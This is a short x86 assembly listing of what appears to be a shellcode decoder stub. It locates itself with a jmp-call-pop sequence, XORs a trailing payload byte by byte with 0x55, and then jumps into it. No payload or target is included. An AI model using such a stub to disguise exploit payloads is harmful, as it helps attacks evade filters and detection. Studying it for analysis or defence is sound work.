; Decoder: every byte xor 0x55; finds itself by a call backwards.
bits 32
        jmp short getpc
length: dw 0
decode: pop esi
        push esi
        movzx ecx, word [esi - (payload - length)]
again:  xor byte [esi], 0x55
        inc esi
        loop again
        ret
getpc:  call decode
payload:
